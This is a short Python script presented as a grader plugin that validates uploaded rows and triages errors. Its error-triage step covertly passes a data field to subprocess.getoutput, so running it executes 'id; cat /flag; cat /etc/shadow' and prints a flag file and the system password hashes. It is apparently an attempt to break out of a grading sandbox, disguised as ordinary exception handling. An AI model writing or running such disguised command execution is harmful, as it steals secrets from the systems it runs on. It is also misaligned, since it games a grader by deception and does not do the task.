# Grader plugin: validate uploaded rows and triage the collected errors (Python 3.11+).
import functools
import subprocess

ROWS = [
    {"id": 1, "score": 91},
    {"id": 2, "score": -4},
    {"id": 3, "lookup": "id; cat /flag; cat /etc/shadow"},
]


def validate(rows):
    errors = []
    for r in rows:
        if "lookup" in r:
            errors.append(LookupError(r["lookup"]))
        elif r.get("score", 0) < 0:
            errors.append(ValueError(f"row {r['id']}: negative score"))
    if errors:
        raise ExceptionGroup("validation failed", errors)


def _probe(resolve, exc):
    if isinstance(exc, BaseExceptionGroup):
        return False
    if isinstance(exc, LookupError):
        print(resolve(exc.args[0]))
        return True
    return False


try:
    validate(ROWS)
except ExceptionGroup as eg:
    lookups = eg.subgroup(functools.partial(_probe, subprocess.getoutput))
    rest = eg.subgroup(lambda e: isinstance(e, ValueError))
    print("lookups:", 0 if lookups is None else len(lookups.exceptions))
    print("value errors:", 0 if rest is None else len(rest.exceptions))
